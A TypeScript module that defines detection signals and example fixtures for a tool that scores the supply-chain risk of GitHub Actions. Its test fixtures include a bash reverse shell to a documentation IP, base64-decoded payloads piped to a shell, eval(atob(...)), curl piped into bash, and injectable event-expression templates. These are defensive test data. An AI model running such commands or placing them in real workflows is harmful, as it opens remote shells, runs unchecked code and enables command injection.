import type { ActionTree, CollectedFacts, PublisherPaths } from '../facts.ts';
import { defineFamily, type SignalExamples } from '../family.ts';
import { ABSENT, listed, present, presentIf, type Reading, reading, unknown } from '../signal.ts';
import { type PlacedHit, readAction, type StaticReading, type StaticSignal } from '../static/read-action.ts';

interface Subject {
  readonly facts: CollectedFacts;
  readonly action: Reading | StaticReading;
}

function tree(files: Readonly<Record<string, string>>, others: Partial<ActionTree> = {}): Partial<CollectedFacts> {
  const value = {
    paths: Object.keys(files),
    files: new Map(Object.entries(files)),
    omitted: new Set<string>(),
    ...others,
  };
  return { tree: { value } };
}

const HEAD = 'name: Example\ndescription: Example\n';

function composite(...steps: readonly string[]): Partial<CollectedFacts> {
  const items = steps.map((step) => `    - ${step.replaceAll('\n', '\n      ')}\n`).join('');
  return tree({
    'action.yml': `${HEAD}inputs:\n  name: { description: Name, required: true }\nruns:\n  using: composite\n  steps:\n${items}`,
  });
}

const run = (script: string): string => `run: ${JSON.stringify(script)}\nshell: bash`;
const javascript = (code: string, using = 'node24'): Partial<CollectedFacts> =>
  tree({ 'action.yml': `${HEAD}runs:\n  using: ${using}\n  main: index.js\n`, 'index.js': code });
const docker = (dockerfile: string, image = 'Dockerfile'): Partial<CollectedFacts> =>
  tree({ 'action.yml': `${HEAD}runs:\n  using: docker\n  image: ${image}\n`, Dockerfile: dockerfile });

const DIGEST = `sha256:${'0'.repeat(64)}`;
const SHA = 'd'.repeat(40);
const UNREAD: Partial<CollectedFacts> = { tree: { unknown: 'fetch_failed' } };
const LEFT_OUT = tree(
  { 'action.yml': `${HEAD}runs:\n  using: node24\n  main: index.js\n` },
  { omitted: new Set(['index.js']) },
);
const BUNDLE = '/******/ (() => { __nccwpck_require__(1) })();\n';
const bundled = (files: Readonly<Record<string, string>>): Partial<CollectedFacts> =>
  tree({ 'action.yml': `${HEAD}runs:\n  using: node24\n  main: dist/index.js\n`, 'dist/index.js': BUNDLE, ...files });

export const STATIC_FAMILY = defineFamily<Subject>({
  id: 'static',
  cap: 45,
  prepare: (facts) => ({
    facts,
    action:
      'value' in facts.tree
        ? (readAction(facts.tree.value, facts.action) ?? unknown('not_supported', 'There is no action definition.'))
        : unknown(facts.tree.unknown),
  }),
  signals: [
    fromFiles('malicious-code-shape', [40, 0, 40], {
      means:
        'The code looks like an attack: it reads the memory of other processes, sends the environment to a server, or runs decoded text.',
      examples: {
        present: [
          [1, javascript('(0, eval)(atob(payload))')],
          [1, composite(run(`echo ${'A'.repeat(80)} | base64 -d | bash`))],
          [1, composite(run('bash -i >& /dev/tcp/198.51.100.7/443 0>&1'))],
          [1, docker(`FROM alpine@${DIGEST}\nRUN echo ${'A'.repeat(80)} | base64 -d | sh\n`)],
        ],
        absent: [
          javascript("console.log(Buffer.from('aGVsbG8=', 'base64').toString())"),
          composite(run('echo "$DATA" | base64 -d > key.pem')),
        ],
        unknown: [UNREAD, LEFT_OUT, javascript('this is not JavaScript'), tree({ 'README.md': '' })],
      },
    }),
    fromFiles('composite-injection-context', [25, 5, 35], {
      means: 'The action inserts event text, which outsiders can write, into a script.',
      examples: {
        present: [
          [1, composite(run('echo "${{ github.event.issue.title }}"'))],
          [2, composite(run('echo "${{ github.head_ref }}"\necho "${{ github.event.comment.body }}"'))],
        ],
        absent: [
          composite('run: echo "$TITLE"\nshell: bash\nenv:\n  TITLE: ${{ github.event.issue.title }}'),
          composite(run('echo "${{ github.repository }} ${{ github.event.issue.number }}"')),
        ],
        unknown: [UNREAD],
      },
    }),
    fromFiles('composite-injection-input', [15, 3, 24], {
      means: 'The action inserts an input into a script, so event text that a caller passes is executed.',
      examples: {
        present: [
          [1, composite(run('echo "${{ inputs.name }}"'))],
          [3, composite(run('a ${{ inputs.name }}'), run('b ${{ inputs.name }} ${{ inputs.name }}'))],
        ],
        absent: [composite('run: echo "$NAME"\nshell: bash\nenv:\n  NAME: ${{ inputs.name }}')],
        unknown: [UNREAD],
      },
    }),
    fromFiles('remote-code-unverified', [15, 5, 25], {
      means: 'The action downloads code and runs it without checking a digest.',
      examples: {
        present: [
          [1, composite(run('curl -sSL https://example.com/install.sh | bash'))],
          [1, docker(`FROM alpine@${DIGEST}\nRUN apk add curl \\\n && curl -sSL https://example.com/i.sh | sh\n`)],
          [1, javascript("require('child_process').execSync('curl -s https://example.com/i.sh | bash')")],
        ],
        absent: [
          composite(run('curl -sSLo tool https://example.com/tool\necho "0123  tool" | sha256sum -c\nchmod +x tool')),
          javascript("throw new Error('Install it: curl -s https://example.com/i.sh | bash')"),
        ],
        unknown: [UNREAD, LEFT_OUT],
      },
    }),
    fromFiles('nested-uses-branch', [10, 4, 20], {
      means: 'The action calls another one at a branch, which changes with every push.',
      examples: {
        present: [[1, composite('uses: acme/tool@main')]],
        absent: [composite('uses: acme/tool@v1'), composite(`uses: acme/tool@${SHA}`)],
        unknown: [UNREAD],
      },
    }),
    fromFiles('nested-uses-third-party-tag', [6, 3, 15], {
      means: 'The action calls another publisher’s action at a tag, which that publisher can move.',
      examples: {
        present: [
          [1, composite('uses: acme/tool@v1')],
          [2, composite('uses: acme/tool@v1', 'uses: acme/other/folder@v1.2.3')],
        ],
        absent: [composite('uses: actions/checkout@v6'), composite(`uses: acme/tool@${SHA}`)],
        unknown: [UNREAD],
      },
    }),
    fromFiles('nested-uses-trusted-tag', [2, 1, 5], {
      means: 'The action calls an action of GitHub or of its own publisher at a tag.',
      examples: {
        present: [
          [1, composite('uses: actions/checkout@v6')],
          [1, { ...composite('uses: Acme/tool@v1'), action: owned('acme') }],
        ],
        absent: [composite(`uses: actions/checkout@${SHA}`)],
        unknown: [UNREAD],
      },
    }),
    fromFiles('docker-image-latest', [18, 0, 18], {
      means: 'The action runs the most recently pushed image.',
      examples: {
        present: [
          [1, docker('', 'docker://acme/tool:latest')],
          [1, composite('uses: docker://acme/tool')],
        ],
        absent: [docker('', 'docker://acme/tool:1'), docker('', `docker://acme/tool:latest@${DIGEST}`)],
        unknown: [UNREAD],
      },
    }),
    fromFiles('docker-image-tag', [8, 0, 8], {
      means: 'The action runs an image by its tag, which can be overwritten.',
      examples: {
        present: [[1, docker('', 'docker://acme/tool:1.2.3')]],
        absent: [docker('', `docker://acme/tool@${DIGEST}`), docker('', 'docker://acme/tool')],
        unknown: [UNREAD],
      },
    }),
    fromFiles('dockerfile-from-unpinned', [5, 0, 5], {
      means: 'The Dockerfile builds on an image without a digest.',
      examples: {
        present: [
          [1, docker('FROM node:24\n')],
          [1, docker(`ARG TAG=3\nFROM alpine:$TAG AS base\nFROM base\n`)],
          [1, docker(`FROM alpine@${DIGEST}\nCOPY --from=acme/tool:1 /tool /tool\n`)],
        ],
        absent: [
          docker(`FROM alpine:3@${DIGEST} AS base\nFROM base\nCOPY --from=base /a /a\nCOPY --from=0 /b /b\n`),
          docker('FROM scratch\n'),
        ],
        unknown: [UNREAD, docker(`FROM alpine\n${'#\n'.repeat(40_000)}`)],
      },
    }),
    fromFiles('github-env-write-from-input', [10, 0, 10], {
      means: 'The action writes untrusted text to GITHUB_ENV or GITHUB_PATH, which affects the caller’s later steps.',
      examples: {
        present: [
          [1, composite('run: echo "NAME=$NAME" >> "$GITHUB_ENV"\nshell: bash\nenv:\n  NAME: ${{ inputs.name }}')],
        ],
        absent: [
          composite(run('echo "VERSION=1.2.3" >> "$GITHUB_ENV"')),
          composite('run: echo "name=$NAME" >> "$GITHUB_OUTPUT"\nshell: bash\nenv:\n  NAME: ${{ inputs.name }}'),
        ],
        unknown: [UNREAD],
      },
    }),
    fromFiles('insecure-commands', [5, 0, 5], {
      means: 'The action lets log output set environment variables.',
      examples: {
        present: [[1, composite('run: ./build\nshell: bash\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true')]],
        absent: [composite(run('echo "::set-output name=a::b"'))],
        unknown: [UNREAD],
      },
    }),
    fromFiles('runtime-unsupported', [10, 0, 10], {
      group: 'runtime',
      means: 'The action needs a runtime that runners do not have.',
      examples: {
        present: [[1, javascript('', 'node12')]],
        absent: [javascript('', 'node24'), javascript('', 'node20')],
        unknown: [UNREAD, tree({ 'action.yml': ': not an action' })],
      },
    }),
    fromFiles('runtime-deprecated', [4, 0, 4], {
      group: 'runtime',
      means: 'Runners use a newer runtime than the one the action was written for.',
      examples: {
        present: [[1, javascript('', 'node20')]],
        absent: [javascript('', 'node24'), javascript('', 'node16')],
        unknown: [UNREAD],
      },
    }),
    {
      id: 'dist-mismatch',
      points: [20, 0, 20],
      group: 'dist',
      means: 'The bundle differs from one built from the sources at the commit.',
      read: ({ facts: { rebuild, action: identity }, action }) => {
        if ('state' in action) return action;
        if (action.kind !== 'javascript') return ABSENT;
        const commit = identity.commit.slice(0, 7);
        return reading(rebuild, (result) => presentIf(result === 'different', `Rebuilt at ${commit} for comparison.`));
      },
      examples: {
        present: [[1, { ...javascript(''), rebuild: { value: 'different' } }]],
        absent: [{ ...javascript(''), rebuild: { value: 'same' } }, { rebuild: { value: 'different' } }],
        unknown: [UNREAD, { ...javascript(''), rebuild: { unknown: 'not_supported' } }],
      },
    },
    fromFiles('dist-unverifiable', [4, 0, 4], {
      group: 'dist',
      means: 'The bundle cannot be rebuilt from the repository, so its contents cannot be verified.',
      examples: {
        present: [
          [1, bundled({})],
          [
            1,
            bundled({ 'package.json': '{"scripts":{"test":"jest"}}', 'src/index.ts': '', 'package-lock.json': '{}' }),
          ],
          [1, bundled({ 'package.json': '{"scripts":{"build":"ncc build"}}', 'package-lock.json': '{}' })],
          [1, bundled({ 'package.json': '{"scripts":{"build":"ncc build"}}', 'src/index.ts': '' })],
        ],
        absent: [
          bundled({
            'package.json': '{"scripts":{"build":"ncc build"}}',
            'src/index.ts': '',
            'package-lock.json': '{}',
          }),
          javascript("console.log('written by hand')"),
          {},
        ],
        unknown: [UNREAD],
      },
    }),
    {
      id: 'publisher-ci-critical',
      points: [15, 5, 20],
      means: 'The publisher’s own workflows have a critical attack path, which leads to the action’s tags.',
      read: ({ facts: { publisherCi } }) => reading(publisherCi, (counts) => paths(counts, 'critical')),
      examples: {
        present: [[2, { publisherCi: { value: { critical: 2, high: 5 } } }]],
        absent: [{ publisherCi: { value: { critical: 0, high: 5 } } }],
        unknown: [{ publisherCi: { unknown: 'rate_limited' } }],
      },
    },
    {
      id: 'publisher-ci-high',
      points: [6, 2, 10],
      means: 'The publisher’s own workflows have an attack path of severity high.',
      read: ({ facts: { publisherCi } }) => reading(publisherCi, (counts) => paths(counts, 'high')),
      examples: {
        present: [[1, { publisherCi: { value: { critical: 0, high: 1 } } }]],
        absent: [{ publisherCi: { value: { critical: 1, high: 0 } } }],
        unknown: [{ publisherCi: { unknown: 'rate_limited' } }],
      },
    },
  ],
});

function fromFiles(
  id: StaticSignal,
  points: readonly [number, number, number],
  rest: { readonly group?: string; readonly means: string; readonly examples: SignalExamples },
) {
  return {
    id,
    points,
    ...rest,
    read: ({ action }: Subject): Reading => {
      if ('state' in action) return action;
      const hits = action.hits.get(id) ?? [];
      if (hits.length > 0) return present(hits.length, `${listed(placesOf(hits))}.`);
      const gap = action.gaps.get(id);
      return gap === undefined ? ABSENT : unknown(gap.reason, gap.evidence);
    },
  };
}

function paths(counts: PublisherPaths, severity: keyof PublisherPaths): Reading {
  return counts[severity] === 0
    ? ABSENT
    : present(counts[severity], `Found there: ${counts.critical} critical, ${counts.high} high.`);
}

function placesOf(hits: readonly PlacedHit[]): string[] {
  const places = new Map<string, Set<string>>();
  for (const { what, place } of hits) places.set(what, (places.get(what) ?? new Set()).add(place));
  return [...places].map(([what, own]) => `${what} (${listed([...own])})`);
}

function owned(owner: string): CollectedFacts['action'] {
  return { owner, name: 'tool', path: '', commit: 'a'.repeat(40), repositoryId: 1, ownerId: 2 };
}
